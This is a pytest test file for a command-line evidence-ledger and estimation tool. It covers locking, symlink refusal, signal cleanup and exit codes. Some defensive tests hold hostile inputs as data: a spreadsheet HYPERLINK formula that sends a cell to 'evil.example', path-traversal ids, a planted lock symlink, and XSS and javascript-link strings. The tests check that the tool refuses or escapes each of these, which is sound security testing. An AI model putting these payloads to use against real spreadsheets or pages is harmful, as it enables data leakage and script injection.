"""Reliability (issue #21): nothing lost, bad input refused before any lock or sampling, and
each kind of failure its own exit code. Every test here runs in seconds: none compiles a model."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from model.cli import main
from model.evidence import load_evidence

from .conftest import ROOT
from .test_add_evidence import ROW


def capest(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """The CLI in a process of its own, as a user or a scheduler runs it."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "model.cli", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        timeout=300,
    )


def with_id(row_id: str, **cells: str) -> list[str]:
    args = [*ROW]
    args[args.index("--id") + 1] = row_id
    for column, value in cells.items():
        flag = f"--{column.replace('_', '-')}"
        if flag in args:  # "--flag=value": a value may start with "-"
            i = args.index(flag)
            args[i : i + 2] = [f"{flag}={value}"]
        else:
            args.append(f"{flag}={value}")
    return args


# --- add-evidence ---------------------------------------------------------------------------


def test_concurrent_add_evidence_processes_keep_every_row(case_copy):
    """Eight processes append at once: each waits for the ledger lock, so every row lands (the
    ledger had no lock: read, validate, replace, and the last writer dropped the others)."""
    ids = [f"launches-concurrent-{i}" for i in range(8)]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-m", "model.cli", "add-evidence", str(case_copy), *with_id(i)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
        )
        for i in ids
    ]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    for p in procs:
        p.stdout.close()
        p.stderr.close()
    assert [code for code, _ in results] == [0] * len(ids), results
    ledger = load_evidence(case_copy / "evidence.csv")
    assert set(ids) <= set(ledger.index)
    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]


def test_a_symlinked_ledger_gets_the_row_and_stays_a_link(case_copy):
    real = case_copy / "ledgers" / "main.csv"
    real.parent.mkdir()
    (case_copy / "evidence.csv").rename(real)
    (case_copy / "evidence.csv").symlink_to(Path("ledgers") / "main.csv")
    assert main(["add-evidence", str(case_copy), *ROW]) == 0
    assert (case_copy / "evidence.csv").is_symlink()
    assert "launches-new-2025-03" in load_evidence(real).index


def test_add_evidence_keeps_mode_line_endings_and_bom(case_copy):
    ledger = case_copy / "evidence.csv"
    before = b"\xef\xbb\xbf" + ledger.read_bytes().replace(b"\n", b"\r\n")
    ledger.write_bytes(before)
    ledger.chmod(0o640)
    assert main(["add-evidence", str(case_copy), *ROW]) == 0
    after = ledger.read_bytes()
    assert after.startswith(before)  # not one byte of the old rows rewritten
    added = after[len(before) :]
    assert added.startswith(b"launches-new-2025-03,") and added.endswith(b"\r\n")
    assert added.count(b"\n") == 1
    assert oct(ledger.stat().st_mode & 0o777) == oct(0o640)
    assert "launches-new-2025-03" in load_evidence(ledger).index


def test_add_evidence_leaves_no_candidate_file_on_any_exit(case_copy):
    """An exit during validation (Ctrl-C, SIGTERM unwinds the same way) removes the candidate;
    one left by a SIGKILL is removed by the next append, which holds the lock."""
    from model.evidence import append_row

    ledger = case_copy / "evidence.csv"
    before = ledger.read_bytes()

    def interrupted(candidate):
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        append_row(ledger, {"id": "x"}, check=interrupted)
    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]
    (case_copy / ".evidence.csv.add-99999.tmp").write_text("left by a killed process")
    assert main(["add-evidence", str(case_copy), *ROW]) == 0
    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]
    assert ledger.read_bytes().startswith(before)


def test_sigterm_during_add_evidence_leaves_nothing(case_copy):
    """A real process stopped by SIGTERM while it validates: no candidate, ledger unchanged."""
    import signal
    import time

    ledger = case_copy / "evidence.csv"
    before = ledger.read_bytes()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    # Validation is made to wait (a check that sleeps) so the signal lands inside it.
    code = (
        "import sys, time, model.case as c; from model.cli import main; orig = c.load_case\n"
        "def slow(*a, **k):\n"
        "    if k.get('evidence'): print('validating', flush=True); time.sleep(60)\n"
        "    return orig(*a, **k)\n"
        "import model; model.load_case = slow\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", code, "add-evidence", str(case_copy), *ROW],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        text=True,
    )
    assert proc.stdout.readline().strip() == "validating"
    assert any(p.name.endswith(".tmp") for p in case_copy.iterdir())
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=30) == 128 + signal.SIGTERM
    proc.stdout.close()
    proc.stderr.close()
    time.sleep(0.1)
    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]
    assert ledger.read_bytes() == before


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_spreadsheet_formula_prefixes_are_refused(case_copy, caplog, prefix):
    ledger = case_copy / "evidence.csv"
    before = ledger.read_bytes()
    args = with_id("launches-formula", quote=f'{prefix}HYPERLINK("https://evil.example/?"&A1)')
    assert main(["add-evidence", str(case_copy), *args]) == 2
    assert f"{ledger}, new row, column 'quote': starts with '{prefix}'" in caplog.text
    assert "spreadsheet would run as a formula" in caplog.text
    assert ledger.read_bytes() == before


# --- locks and report folders ---------------------------------------------------------------


def test_a_planted_lock_symlink_is_refused_not_followed(tmp_path):
    from model.errors import InputError
    from model.runs import case_lock

    target = tmp_path / "precious.txt"
    target.write_text("precious")
    (tmp_path / "reports" / "x").mkdir(parents=True)
    (tmp_path / "reports" / "x" / ".lock").symlink_to(target)
    with pytest.raises(InputError, match="symlink is refused"):
        with case_lock(tmp_path / "reports", "x"):
            pass
    assert target.read_text() == "precious"


def test_a_refused_second_run_leaves_the_holders_pid(tmp_path):
    from model.errors import Busy
    from model.runs import case_lock

    with case_lock(tmp_path, "x"):
        with pytest.raises(Busy):
            with case_lock(tmp_path, "x"):
                pass
        assert (tmp_path / "x" / ".lock").read_text() == str(os.getpid())


@pytest.mark.parametrize("case_id", ["../../escape", "<absolute>", "UPPER", "a/b"])
def test_a_case_id_that_is_a_path_is_refused_before_any_folder_is_made(tmp_path, case_id):
    from model.errors import InputError
    from model.runs import case_lock

    case_id = case_id.replace("<absolute>", str(tmp_path / "absolute"))
    reports = tmp_path / "deep" / "reports"
    with pytest.raises(InputError, match="lowercase letters, digits and hyphens"):
        with case_lock(reports, case_id):
            pass
    assert not (tmp_path / "escape").exists() and not (tmp_path / "absolute").exists()
    assert not reports.exists()


def test_a_symlinked_report_folder_is_refused_before_the_fit(tmp_path, caplog):
    """reports/<case> linked elsewhere: refused when the lock is taken, before any sampling
    (the lock went into the link's target and the fit ran, to be refused at writing)."""
    from .conftest import CASE

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "february-11-plant").symlink_to(elsewhere)
    assert main(["estimate", str(CASE), "--reports-dir", str(reports)]) == 2
    assert "is a symlink" in caplog.text
    assert list(elsewhere.iterdir()) == []


def test_reports_dir_that_is_a_file_is_a_clear_error(tmp_path, caplog):
    from .conftest import CASE

    (tmp_path / "file").write_text("")
    assert main(["estimate", str(CASE), "--reports-dir", str(tmp_path / "file")]) == 2
    assert "column '--reports-dir': cannot make the report folder" in caplog.text


def test_a_programme_id_that_is_a_path_is_refused(tmp_path):
    from model.errors import InputError
    from model.programme import load_programme

    (tmp_path / "case.toml").write_text(
        'id = "../../escape"\ntitle = "t"\nunit = "missiles"\nplants = ["a"]\n'
    )
    with pytest.raises(InputError, match="column 'id': expected lowercase letters"):
        load_programme(tmp_path)


# --- exit codes -----------------------------------------------------------------------------


def test_an_internal_error_exits_3_with_its_traceback_names_the_case_and_frees_the_lock(
    tmp_path, caplog, monkeypatch
):
    """A bug after validation (here: in the fit) is not a failed check (exit 1): exit 3, the
    traceback in the log, the case named, nothing written and the lock released."""
    import model.fit
    from model.runs import case_lock

    from .conftest import CASE

    def broken(*args, **kwargs):
        raise RuntimeError("a bug in the fit")

    monkeypatch.setattr(model.fit, "fit", broken)
    assert main(["estimate", str(CASE), "--reports-dir", str(tmp_path)]) == 3
    assert f"internal error in capest estimate {CASE}" in caplog.text
    assert "Traceback" in caplog.text and "RuntimeError: a bug in the fit" in caplog.text
    assert [p.name for p in (tmp_path / "february-11-plant").iterdir()] == [".lock"]
    with case_lock(tmp_path, "february-11-plant"):  # free again
        pass


def test_disk_full_while_writing_exits_3_with_a_clear_error(tmp_path, caplog, monkeypatch):
    import errno

    import model.fit

    from .conftest import CASE

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(model.fit, "fit", full)
    assert main(["estimate", str(CASE), "--reports-dir", str(tmp_path)]) == 3
    assert "No space left on device (nothing was written)" in caplog.text
    assert "Traceback" not in caplog.text


def test_add_evidence_on_a_file_size_limit_exits_3_and_changes_nothing(case_copy):
    """A real write failure (the process may not write files beyond 1 kB, as a full disk
    refuses them): exit 3, a clear message, the ledger as it was, no candidate left."""
    ledger = case_copy / "evidence.csv"
    before = ledger.read_bytes()
    code = (
        "import resource, signal, sys\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"  # EFBIG instead of a kill
        "resource.setrlimit(resource.RLIMIT_FSIZE, (1024, 1024))\n"
        "from model.cli import main; sys.exit(main(sys.argv[1:]))\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    out = subprocess.run(
        [sys.executable, "-c", code, "add-evidence", str(case_copy), *ROW],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert out.returncode == 3, out.stderr
    assert "File too large (nothing was written)" in out.stderr
    assert "Traceback" not in out.stderr
    assert ledger.read_bytes() == before
    assert sorted(p.name for p in case_copy.iterdir()) == ["case.toml", "evidence.csv"]


def test_report_all_shows_each_error_lists_every_case_and_survives_a_corrupt_summary(
    tmp_path, capsys
):
    """One case with bad input (exit 2) whose older report passed, one case whose latest
    summary is corrupt: report --all shows the child's error, exits 2, and the index lists
    both, the first as an input error (not its old "passed")."""
    import json
    import shutil

    from model.runs import run_all

    from .conftest import CASE

    cases, reports = tmp_path / "cases", tmp_path / "reports"
    shutil.copytree(CASE, cases / "february-11-plant")
    ledger = cases / "february-11-plant" / "evidence.csv"
    ledger.write_text(ledger.read_text().replace(",between,", ",sometimes,", 1))
    old = reports / "february-11-plant" / "20250101T000000Z"
    old.mkdir(parents=True)
    q = {"median": 3.0}
    summary = {
        "case_title": "February 11",
        "created": "2025-01-01T00:00:00Z",
        "unit": "missiles",
        "passed": True,
        "checks": [],
        "quantities": {"rate_before": q, "rate_after": q},
    }
    (old / "summary.json").write_text(json.dumps(summary))
    (reports / "february-11-plant" / "latest").symlink_to(old.name)
    corrupt = reports / "other" / "run"
    corrupt.mkdir(parents=True)
    (corrupt / "summary.json").write_text("{not json")
    (reports / "other" / "latest").symlink_to("run")

    assert run_all(cases, reports, 1, []) == 2
    err = capsys.readouterr().err
    assert "--- february-11-plant (exit 2):" in err and "column 'bound'" in err
    page = (reports / "index.html").read_text()
    rows = page.split("<tr")[2:]
    assert len(rows) == 2
    assert "input error (nothing written); the latest report below is an older run" in rows[0]
    assert "passed" not in rows[0].replace("older run", "")
    assert "other" in rows[1] and "summary.json unreadable" in rows[1]
    umask = os.umask(0)
    os.umask(umask)
    assert (reports / "index.html").stat().st_mode & 0o777 == 0o666 & ~umask


# --- report.md ------------------------------------------------------------------------------


def test_report_md_escapes_input_text_and_links_only_http():
    """Ledger text and the title are text in report.md: no raw HTML, no javascript: link, no
    remote image, no heading or table injection (only '|' and newlines were escaped)."""
    from model.report import Link, to_markdown

    hostile = [
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "![](https://tracker.example/pixel.png)",
        "line one\n# Injected heading",
        "a | b",
        "**bold** and `code` and _em_",
    ]
    md = to_markdown(
        [
            ("h1", "<img src=x onerror=alert(1)>"),
            (
                "table",
                ["source", "quote"],
                [[Link("Outlet", "javascript:alert(1)"), q] for q in hostile],
            ),
            ("table", ["source"], [[Link("Outlet ]", "https://example.org/a_(b)")]]),
        ]
    )
    assert md.splitlines()[0] == r"# \<img src=x onerror=alert(1)\>"
    assert not re.search(r"(?<!\\)<(script|img|/script)", md)  # every tag's '<' escaped
    assert not re.search(r"(?<!\\)\]\((javascript|https://tracker)", md)  # no live link
    assert r"\[click\](javascript:alert(1))" in md
    assert "Outlet (javascript:alert(1))" in md  # shown, not linked
    assert "\n# Injected" not in md and "line one # Injected heading" in md
    assert r"a \| b" in md
    assert r"\*\*bold\*\* and \`code\` and \_em\_" in md
    assert r"[Outlet \]](<https://example.org/a_(b)>)" in md
